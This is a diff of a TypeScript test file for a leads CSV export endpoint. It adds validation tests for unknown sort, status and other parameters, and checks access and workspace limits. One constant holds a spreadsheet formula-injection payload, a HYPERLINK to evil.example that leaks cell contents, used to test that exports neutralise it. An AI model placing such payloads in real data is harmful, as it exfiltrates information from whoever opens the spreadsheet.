@@ -1,10 +1,12 @@
 // The leads CSV through its handlers (API key, and the dashboard's session caller) on the demo
 // workspace and a real database: the header, the table's filters, every lead across pages, a
-// hostile answer written inert, REPs get their own leads only, the key's workspace only.
+// hostile answer written inert, REPs get their own leads only, the key's workspace only; an
+// unknown sort, status or parameter is a 422 at its name (after the caller is known), as GET /leads.
 import { describe, expect, it } from "vitest";
 import { leadsCsv, LEAD_CSV_COLUMNS } from "../../services/leads/export-leads-csv";
 import { BANK_VP, useRoutingKit } from "../../testing/routing-kit";
-import { apiRequest, startApiKit } from "../../testing/api-kit";
+import { apiRequest, readJson, startApiKit } from "../../testing/api-kit";
+import type { TApiErrorBody } from "../../domain/forms/submission-contract";
 import { handleCreateLead } from "./handle-leads";
 import { handleDashboardLeadsCsv, handleLeadsCsv } from "./handle-leads-csv";
 
@@ -16,10 +18,9 @@ const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 const create = async (body: unknown) => ((await (await handleCreateLead(env.testDb.db, apiRequest("POST", "/leads", { key: env.kit.key, body }), NOW, env.kit.deps)).json()) as { lead: { id: string } }).lead.id;
 const small = (email: string, extra: Record<string, unknown> = {}) => ({ answers: { company_size: "20-199", industry: "technology", region: "north_america", ...extra }, person: { email, name: "Amy" } });
 const csvOf = async (query = "", key = env.kit.key) => {
-  const response = await handleLeadsCsv(env.testDb.db, apiRequest("GET", `/leads.csv${query}`, { key }), NOW, tierFilter(query));
+  const response = await handleLeadsCsv(env.testDb.db, apiRequest("GET", `/leads.csv${query}`, { key }), NOW);
   return { response, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer()) }; // keeps the BOM
 };
-const tierFilter = (query: string) => (query.includes("tier=sales_ready") ? { tier: "sales_ready" } : {});
 const lines = (text: string) => text.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);
 
 describe(`leads CSV (${lane})`, () => {
@@ -68,12 +69,12 @@ describe(`leads CSV (${lane})`, () => {
     const bank = await create({ form: "demo", answers: BANK_VP });
     const tom = await create(small("a@shop.com"));
     const sarah = await env.testDb.db.repProfile.findUniqueOrThrow({ where: { id: await env.kit.repIdOf("Sarah") }, select: { userId: true } });
-    const response = await handleDashboardLeadsCsv(env.testDb.db, { workspaceId: env.kit.workspaceId, viewer: { userId: sarah.userId, role: "REP" } }, {}, NOW);
+    const response = await handleDashboardLeadsCsv(env.testDb.db, { workspaceId: env.kit.workspaceId, viewer: { userId: sarah.userId, role: "REP" } }, new URLSearchParams(), NOW);
     const text = await response.text();
     expect(response.status).toBe(200);
     expect(text).toContain(bank);
     expect(text).not.toContain(tom);
-    expect((await handleDashboardLeadsCsv(env.testDb.db, null, {}, NOW)).status).toBe(401);
+    expect((await handleDashboardLeadsCsv(env.testDb.db, null, new URLSearchParams(), NOW)).status).toBe(401);
   });
 
   it("the key's workspace only", async () => {
@@ -82,5 +83,39 @@ describe(`leads CSV (${lane})`, () => {
     expect(response.status).toBe(200);
     expect(text).not.toContain(id);
     expect(lines(text)).toHaveLength(1);
+  });
+
+  it("keeps the table's sort, and an empty value is no value", async () => {
+    const bank = await create({ form: "demo", answers: BANK_VP });
+    const low = await create(small("amy@shop.com"));
+    const order = async (query: string) => lines((await csvOf(query)).text).slice(1).map((row) => (row.includes(bank) ? "bank" : row.includes(low) ? "low" : "?"));
+    expect(await order("?sort=score-desc")).toEqual(["bank", "low"]);
+    expect(await order("?sort=score-asc&status=&search=")).toEqual(["low", "bank"]);
+  });
+
+  it.each<[string, string, string | null]>([
+    ["?sort=bogus", "sort", "Use one of: date-desc, date-asc, score-desc, score-asc"],
+    ["?sort=score-desc&sort=date-asc", "sort", null],
+    ["?status=WON", "status", null],
+    ["?spam=yes", "spam", null],
+    ["?scoreBand=huge", "scoreBand", null],
+    ["?from=yesterday", "from", null],
+    ["?foo=1", "foo", null],
+  ])("%s → 422 at %s", async (query, path, message) => {
+    const { status, json } = await readJson<TApiErrorBody>(await handleLeadsCsv(env.testDb.db, apiRequest("GET", `/leads.csv${query}`, { key: env.kit.key }), NOW));
+    expect(status).toBe(422);
+    expect(json.error.code).toBe("VALIDATION");
+    expect(json.error.details.map((d) => d.path)).toEqual([path]);
+    if (message) expect(json.error.details[0]!.message).toBe(message);
+  });
+
+  it("the caller is checked first (401), and the dashboard's export refuses an unknown sort too", async () => {
+    expect((await csvOf("?sort=bogus", "sb_live_not_a_key")).response.status).toBe(401);
+    expect((await handleDashboardLeadsCsv(env.testDb.db, null, new URLSearchParams("sort=bogus"), NOW)).status).toBe(401);
+    const owner = await env.testDb.db.user.findUniqueOrThrow({ where: { email: "owner@demo.switchboard.dev" } });
+    const response = await handleDashboardLeadsCsv(env.testDb.db, { workspaceId: env.kit.workspaceId, viewer: { userId: owner.id, role: "OWNER" } }, new URLSearchParams("sort=bogus"), NOW);
+    const { status, json } = await readJson<TApiErrorBody>(response);
+    expect(status).toBe(422);
+    expect(json.error.details).toEqual([{ path: "sort", message: "Use one of: date-desc, date-asc, score-desc, score-asc" }]);
   });
 });
